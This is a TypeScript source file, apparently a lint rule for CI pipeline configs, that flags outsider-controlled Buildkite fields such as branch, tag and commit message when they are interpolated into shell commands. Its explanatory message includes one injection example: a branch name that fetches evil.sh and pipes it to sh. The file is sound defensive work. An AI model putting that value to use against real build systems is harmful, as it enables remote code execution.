import type { Node } from '@babel/types'
import { outsiderVariables } from '@kitewright/core/check'
import { isWrapper, memberOf } from '../../locate/site.ts'
import { nameOf } from '../../locate/find-binding.ts'
import type { Source } from '../../locate/parse-source.ts'
import type { LookedAt } from './looked-at.ts'

/** What somebody outside of the team chooses of the build. */
const ofBuild = /^(?:branch|tag|message|author|creator|labels|repository|base_branch)$/

/** Texts of an outsider that the program itself puts into a command, where a shell reads them as a part of it. */
export function* outsidersInCommands(source: Source, nodes: readonly Node[]): Iterable<LookedAt> {
  for (const node of nodes) {
    const name = outsiderOf(node)
    if (name === undefined || !isInText(node, source)) continue
    yield {
      code: 'KW6005',
      node,
      message: `${name} is written into a command, where a shell runs it`,
      why: 'whoever names a branch or a tag, or writes a commit, chooses that text: a branch may be named x";curl${IFS}evil.sh|sh;"',
      hint: 'write shell`…`, which quotes it, or let the shell of the job read its variable: "$BUILDKITE_BRANCH"',
    }
  }
}

/** `build.branch`, `context.build.message`, `build.author?.name`, `env.BUILDKITE_TAG`. */
function outsiderOf(node: Node): string | undefined {
  const member = memberOf(node)
  const holder = member && (memberOf(member.object)?.key ?? nameOf(member.object))
  if (member === undefined || holder === undefined) return undefined
  if (holder === 'env' && outsiderVariables.has(member.key)) return member.key
  if (/^(?:author|creator|pull_request)$/.test(holder)) return ofPerson(member)
  return holder === 'build' && ofBuild.test(member.key) ? `build.${member.key}` : undefined
}

function ofPerson({ object, key }: NonNullable<ReturnType<typeof memberOf>>): string | undefined {
  const inside = memberOf(object)
  if (inside === undefined || (memberOf(inside.object)?.key ?? nameOf(inside.object)) !== 'build') return undefined
  const isOutsiders = inside.key === 'pull_request' ? ofBuild.test(key) : /^(?:name|email)$/.test(key)
  return isOutsiders ? `build.${inside.key}.${key}` : undefined
}

/** Whether a value is a part of a command's text as it is. What a function makes of it is that function's. */
function isInText(node: Node, source: Source): boolean {
  let inner = node
  let isPart = false
  for (let around = source.parents.get(node); around !== undefined; around = source.parents.get(around)) {
    if (around.type === 'TemplateLiteral') {
      if (source.parents.get(around)?.type === 'TaggedTemplateExpression' && !isScript(source.parents.get(around)))
        return false
      isPart = true
    } else if (around.type === 'BinaryExpression') {
      if (around.operator !== '+') return false
      isPart = true
    } else if (around.type === 'ObjectProperty') {
      return isPart && around.value === inner && /^commands?$/.test(nameOf(around.key) ?? '')
    } else if (around.type === 'ConditionalExpression' ? around.test === inner : !isPassedOn(around)) return false
    inner = around
  }
  return false
}

/** `script` puts values in as they are. */
function isScript(node: Node | undefined): boolean {
  return node?.type === 'TaggedTemplateExpression' && node.tag.type === 'Identifier' && node.tag.name === 'script'
}

function isPassedOn(node: Node): boolean {
  const passing = ['ArrayExpression', 'LogicalExpression', 'ConditionalExpression', 'TaggedTemplateExpression']
  return isWrapper(node) || passing.includes(node.type)
}
